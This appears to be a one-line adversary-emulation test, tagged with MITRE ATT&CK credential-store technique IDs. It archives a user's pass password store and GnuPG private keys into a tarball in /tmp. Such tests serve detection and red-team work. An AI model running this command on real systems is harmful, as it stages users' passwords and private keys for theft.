# title: Stores of passwords are packed
# technique: T1555.005 T1555
# as: user

tar czf /tmp/p.tgz -C ~ .password-store .gnupg/private-keys-v1.d
